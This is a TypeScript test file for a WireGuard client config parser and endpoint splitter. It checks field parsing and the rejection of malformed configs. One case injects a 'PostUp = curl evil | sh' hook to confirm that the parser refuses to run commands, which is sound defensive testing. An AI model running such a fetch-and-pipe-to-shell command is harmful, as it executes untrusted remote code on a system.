import { describe, expect, it } from 'vitest';
import { parseClientConfig, splitEndpoint } from '../../../src/wg/client/config.js';

const PRIV = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=';
const PUB = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';

const GOOD = `# written by sandcat
[Interface]
PrivateKey = ${PRIV}
Address = 10.77.0.2/32, fd00:77::2/128
DNS = 10.77.0.1, fd00:77::1
MTU = 1420

[Peer]
PublicKey = ${PUB}
Endpoint = proxy:51820
AllowedIPs = 0.0.0.0/0, ::/0
`;

describe('parseClientConfig', () => {
  it('reads the config the daemon writes', () => {
    expect(parseClientConfig(GOOD)).toEqual({
      privateKey: PRIV,
      addresses: ['10.77.0.2/32', 'fd00:77::2/128'],
      dns: ['10.77.0.1', 'fd00:77::1'],
      dnsSearch: [],
      mtu: 1420,
      peer: { publicKey: PUB, endpoint: 'proxy:51820', allowedIps: ['0.0.0.0/0', '::/0'] },
    });
  });

  it('is case-insensitive in keys, tolerates CRLF and trailing comments, keeps search domains apart', () => {
    const text = GOOD.replace('DNS = 10.77.0.1, fd00:77::1', 'dns=10.77.0.1,corp.example # search').replace(/\n/g, '\r\n').replace('PersistentKeepalive', '');
    const c = parseClientConfig(text + 'persistentkeepalive = 25\r\n');
    expect(c.dns).toEqual(['10.77.0.1']);
    expect(c.dnsSearch).toEqual(['corp.example']);
    expect(c.peer.persistentKeepalive).toBe(25);
  });

  it('adds a host prefix to bare addresses', () => {
    expect(parseClientConfig(GOOD.replace('10.77.0.2/32, fd00:77::2/128', '10.77.0.2, fd00:77::2')).addresses).toEqual(['10.77.0.2/32', 'fd00:77::2/128']);
  });

  it.each([
    ['a hook script', GOOD.replace('MTU = 1420', 'PostUp = curl evil | sh'), /never runs commands/],
    ['no private key', GOOD.replace(`PrivateKey = ${PRIV}\n`, ''), /no PrivateKey/],
    ['a malformed key', GOOD.replace(PRIV, 'not-a-key'), /not a WireGuard key/],
    ['no peer', GOOD.slice(0, GOOD.indexOf('[Peer]')), /no \[Peer\]/],
    ['two peers', GOOD + `[Peer]\nPublicKey = ${PUB}\n`, /more than one \[Peer\]/],
    ['a bad address', GOOD.replace('10.77.0.2/32', '10.77.0.300/32'), /not an IP or CIDR/],
    ['a bad MTU', GOOD.replace('MTU = 1420', 'MTU = 99'), /MTU/],
    ['an endpoint without port', GOOD.replace('proxy:51820', 'proxy'), /not host:port/],
    ['an unknown key', GOOD.replace('MTU = 1420', 'Colour = blue'), /unknown \[Interface\] key "Colour"/],
    ['a key outside a section', 'MTU = 1420\n' + GOOD, /outside a section/],
  ])('refuses %s, naming the line', (_name, text, pattern) => {
    expect(() => parseClientConfig(text, '/sandcat/wg/client.conf')).toThrow(pattern);
    expect(() => parseClientConfig(text, '/sandcat/wg/client.conf')).toThrow(/\/sandcat\/wg\/client\.conf:\d+/);
  });
});

describe('splitEndpoint', () => {
  it.each([
    ['proxy:51820', 'proxy', 51820],
    ['10.0.0.1:1', '10.0.0.1', 1],
    ['[fd00::1]:51820', 'fd00::1', 51820],
  ])('%s', (text, host, port) => {
    expect(splitEndpoint(text)).toEqual({ host, port });
  });
  it.each(['fd00::1:51820', 'proxy:0', 'proxy:70000', ':51820'])('refuses %s', (text) => {
    expect(() => splitEndpoint(text)).toThrow(/not host:port/);
  });
});
